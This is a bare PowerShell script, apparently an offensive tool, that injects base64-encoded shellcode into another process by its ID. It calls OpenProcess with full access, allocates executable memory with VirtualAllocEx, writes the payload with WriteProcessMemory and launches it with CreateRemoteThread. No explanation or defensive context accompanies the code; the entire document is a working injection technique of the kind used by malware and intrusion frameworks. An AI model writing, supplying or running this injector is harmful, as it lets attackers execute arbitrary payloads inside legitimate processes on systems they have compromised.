param([int]$TargetPid, [string]$ShellcodeB64)

Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public static class K32 {
    [DllImport("kernel32.dll")] public static extern IntPtr OpenProcess(uint a, bool i, int p);
    [DllImport("kernel32.dll")] public static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);
    [DllImport("kernel32.dll")] public static extern bool WriteProcessMemory(IntPtr h, IntPtr b, byte[] d, uint s, out UIntPtr w);
    [DllImport("kernel32.dll")] public static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);
}
"@

$sc = [Convert]::FromBase64String($ShellcodeB64)
$hProc = [K32]::OpenProcess(0x1F0FFF, $false, $TargetPid)
$addr = [K32]::VirtualAllocEx($hProc, [IntPtr]::Zero, [uint32]$sc.Length, 0x3000, 0x40)
$written = [UIntPtr]::Zero
[K32]::WriteProcessMemory($hProc, $addr, $sc, [uint32]$sc.Length, [ref]$written) | Out-Null
[K32]::CreateRemoteThread($hProc, [IntPtr]::Zero, 0, $addr, [IntPtr]::Zero, 0, [IntPtr]::Zero) | Out-Null
